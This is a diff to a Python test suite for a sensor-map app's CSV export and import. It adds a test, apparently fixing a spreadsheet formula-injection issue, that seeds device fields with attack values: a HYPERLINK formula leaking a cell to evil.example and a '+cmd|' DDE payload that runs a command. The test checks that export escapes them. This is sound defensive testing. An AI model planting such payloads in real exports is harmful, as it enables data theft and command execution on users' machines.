@@ -295,7 +295,7 @@ def test_map_page_and_geojson_queries_do_not_grow(app, client, count_queries, pa
 
 
 def test_csv_export_round_trips_through_import(app, client, make_device, make_user):
-    make_device()
+    device_id = make_device()
     make_device(published=False, name=ja("下書き"))
     response = client.get("/sensors.csv")
     assert response.mimetype == "text/csv"
@@ -306,7 +306,27 @@ def test_csv_export_round_trips_through_import(app, client, make_device, make_us
     assert rows[0]["dtpr"] == "purpose:safety_security; tech:video_camera identifiable_video"
     with app.app_context():
         devices = opendata.import_csv(None, body.encode("utf-8"))
-        assert devices[0].snapshot() | {"name": None} == db.session.get(Device, 1).snapshot() | {"name": None}
+        assert devices[0].snapshot() | {"name": None} == db.session.get(Device, device_id).snapshot() | {"name": None}
+
+
+def test_csv_export_keeps_formulas_as_text_and_import_restores_them(app, client, make_device):
+    """A spreadsheet must not run a device's name or contact as a formula (issue 12)."""
+    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"詳しくはこちら")'
+    make_device(name=ja(evil, "+cmd|' /C calc'!A0"), contact=ja("@SUM(1+1)", "-2+3"), latitude=34.5, longitude=-0.25)
+    response = client.get("/sensors.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    body = response.get_data(as_text=True)
+    assert body.startswith("\ufeff")
+    row = next(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
+    assert row["name_ja"] == "'" + evil and row["name_en"] == "'+cmd|' /C calc'!A0"
+    assert row["contact_ja"] == "'@SUM(1+1)" and row["contact_en"] == "'-2+3"
+    assert row["longitude"] == "-0.250000"  # a negative number stays a number
+    for value in row.values():
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    with app.app_context():
+        imported = opendata.import_csv(None, body.encode("utf-8"), publish=False)[0]
+        assert dict(imported.name) == {"ja": evil, "en": "+cmd|' /C calc'!A0"}
+        assert dict(imported.contact) == {"ja": "@SUM(1+1)", "en": "-2+3"}
 
 
 # --- import ---------------------------------------------------------------------------------------
